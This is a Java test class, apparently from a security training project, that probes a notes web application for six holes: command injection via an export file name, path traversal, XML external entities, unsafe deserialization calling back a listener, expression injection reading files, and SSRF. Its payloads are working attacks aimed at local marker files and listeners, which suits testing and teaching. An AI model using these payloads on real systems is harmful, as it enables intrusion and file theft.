package io.github.secureblocks.samples.attack;

import static io.github.secureblocks.samples.attack.HttpContract.note;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.rmi.registry.LocateRegistry;
import java.util.Base64;
import java.util.List;

/** Features that a notes application does not need, each opened in the usual way. */
final class DoorAttacks {
    private static final String EXPORTS = "/exports";
    private static final String IMPORT = "/import";
    private static final String RESTORE = "/restore";
    private static final String CALCULATE = "/calculate";
    private static final String UPWARDS = "../".repeat(20);

    private DoorAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.onDoor(
                        "Shell command in an export's name",
                        78,
                        "a file of the attacker's on the server",
                        browser -> browser.post(export("1"), "name", "probe"),
                        DoorAttacks::command),
                Attack.onDoor(
                        "`../` in a download's name",
                        22,
                        "a file outside the exports",
                        browser -> browser.get(EXPORTS, "file", "probe"),
                        DoorAttacks::traversal),
                Attack.onDoor(
                        "External entity in imported XML",
                        611,
                        "a file of the server in a note",
                        browser -> browser.post(IMPORT, "xml", "<notes/>"),
                        DoorAttacks::entity),
                Attack.onDoor(
                        "Object of the attacker's choice in a backup",
                        502,
                        "the server opens a connection to the attacker",
                        browser -> browser.post(RESTORE, "backup", ""),
                        DoorAttacks::object),
                Attack.onDoor(
                        "Code in a formula",
                        94,
                        "a file of the server in the page",
                        browser -> browser.get(CALCULATE, "expression", "1"),
                        DoorAttacks::formula),
                Attack.onDoor(
                        "Internal address as the receiver of a note",
                        918,
                        "the server opens a connection inside",
                        browser -> browser.post(send("1"), "url", "http://127.0.0.1:1"),
                        DoorAttacks::internal));
    }

    private static boolean command(Target target) {
        Path made = target.directory().resolve(Target.marker("made-"));
        String id = target.write(target.attacker(), Target.marker("title-"), "body");
        target.attacker().post(export(id), "name", "x.gz; echo attacked > " + made + "; echo ");
        return Files.exists(made);
    }

    private static boolean traversal(Target target) throws IOException {
        String secret = Target.marker("secret-");
        Path file = secretFile(target, secret);
        String id = target.write(target.attacker(), Target.marker("title-"), "body");
        target.attacker().post(export(id), "name", "harmless");
        return target.attacker().get(EXPORTS, "file", UPWARDS + file).shows(secret);
    }

    private static boolean entity(Target target) throws IOException {
        String secret = Target.marker("secret-");
        String title = Target.marker("xml-");
        String xml = "<!DOCTYPE notes [<!ENTITY file SYSTEM \""
                + secretFile(target, secret).toUri() + "\">]>" + "<notes><note title=\"" + title
                + "\">&file;</note></notes>";
        target.attacker().post(IMPORT, "xml", xml);
        String id = target.idOf(target.attacker(), title);
        return target.attacker().get(note(id)).shows(secret);
    }

    /** No class of the application is needed: reading back a remote reference makes the JDK call its address. */
    private static boolean object(Target target) throws IOException {
        try (Listener listener = new Listener()) {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
                out.writeObject(LocateRegistry.getRegistry("127.0.0.1", listener.port()));
            }
            target.attacker().post(RESTORE, "backup", Base64.getEncoder().encodeToString(bytes.toByteArray()));
            return Target.soon(listener::wasCalled);
        }
    }

    private static boolean formula(Target target) throws IOException {
        String secret = Target.marker("secret-");
        String code =
                "T(java.nio.file.Files).readString(T(java.nio.file.Path).of('" + secretFile(target, secret) + "'))";
        return target.attacker().get(CALCULATE, "expression", code).shows(secret);
    }

    private static boolean internal(Target target) throws IOException {
        try (Listener listener = new Listener()) {
            String id = target.write(target.attacker(), Target.marker("title-"), "body");
            target.attacker().post(send(id), "url", "http://127.0.0.1:" + listener.port() + "/");
            return Target.soon(listener::wasCalled);
        }
    }

    private static Path secretFile(Target target, String secret) throws IOException {
        return Files.writeString(target.directory().toAbsolutePath().resolve("secret.txt"), secret);
    }

    private static String export(String id) {
        return note(id) + "/export";
    }

    private static String send(String id) {
        return note(id) + "/send";
    }
}
